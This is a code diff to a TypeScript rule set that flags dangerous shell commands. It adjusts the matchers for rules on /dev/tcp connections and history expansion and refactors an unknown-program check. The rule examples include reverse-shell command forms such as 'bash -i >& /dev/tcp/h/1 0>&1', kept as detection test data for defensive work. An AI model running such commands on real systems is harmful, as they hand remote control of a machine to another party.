@@ -4,6 +4,7 @@ import { hasSubscriptCode } from '../syntax/late-evaluation.ts';
 import { isShell } from '../syntax/inner.ts';
 import { hasGlob, hasUnknown, PLAIN } from '../syntax/marks.ts';
 import { parseArguments } from '../syntax/options.ts';
+import { perName } from '../syntax/per-name.ts';
 import { runsDownload } from './downloads.ts';
 import type { Rule } from './rule.ts';
 
@@ -36,7 +37,7 @@ export const CODE_RULES: readonly Rule[] = [
   },
   {
     id: 'shell-connection', class: 'dangerous', isGrave: true, reason: 'opens a connection in both directions, or gives one to a shell: use a program made for it, such as nc',
-    match: ({ redirections, program }) => redirections.some(({ operator, targets }) => (operator === '<>' || isShell(program)) && targets.some((target) => /^\/dev\/(?:tcp|udp)\//.test(target))),
+    match: ({ redirections, program }) => redirections.length > 0 && redirections.some(({ operator, targets }) => (operator === '<>' || isShell(program)) && targets.some((target) => /^\/dev\/(?:tcp|udp)\//.test(target))),
     examples: ['exec 3<>/dev/tcp/a/80', 'bash -i >& /dev/tcp/h/1 0>&1', 'exec 5<>/dev/udp/h/1', 'cat <>/dev/tcp/h/1', 'sh > /dev/tcp/h/1'],
     notExamples: ['(echo > /dev/tcp/localhost/80) && echo up', "timeout 1 bash -c '</dev/tcp/localhost/80'", 'cat < /dev/tcp/localhost/80', 'nc -z h 80', 'exec 3<>log'],
   },
@@ -71,7 +72,7 @@ export const CODE_RULES: readonly Rule[] = [
   },
   {
     id: 'history-expansion', class: 'dangerous', isGrave: true, reason: 'stands for an earlier command, which is not in this text: write it out',
-    match: ({ path, text, origin }) => origin.length === 0 && /^!(?:!|-?\d|\?|[A-Za-z])|^\^/.test(path) && /^\s*[!^]/.test(text),
+    match: ({ path, text, origin }) => (path.startsWith('!') || path.startsWith('^')) && origin.length === 0 && /^!(?:!|-?\d|\?|[A-Za-z])|^\^/.test(path) && /^\s*[!^]/.test(text),
     examples: ['!!', '!rm', '!-2', '!5', '!ls:p', '^ls^id'],
     notExamples: ['! ls', '[ ! -f x ]', 'echo hi!', "echo '!!'", '! grep -q x f'],
   },
@@ -93,10 +94,10 @@ export const CODE_RULES: readonly Rule[] = [
 ];
 
 function isUnknownProgram({ path, wrappers }: SimpleCommand): boolean {
-  if (path === '' || path.startsWith('-') && wrappers.length > 0) return false;
-  if (hasGlob(path) || path.includes(PLAIN)) return !path.startsWith('[');
-  return hasUnknown(path);
+  return isUnknownName(path) && !(path.startsWith('-') && wrappers.length > 0);
 }
+
+const isUnknownName = perName((path) => (hasGlob(path) || path.includes(PLAIN) ? !path.startsWith('[') : hasUnknown(path)));
 
 function isEvaluatedLater({ program, args }: SimpleCommand): boolean {
   if (program === 'printf') return args[0] === '-v' && hasSubscriptCode(args[1] ?? '');
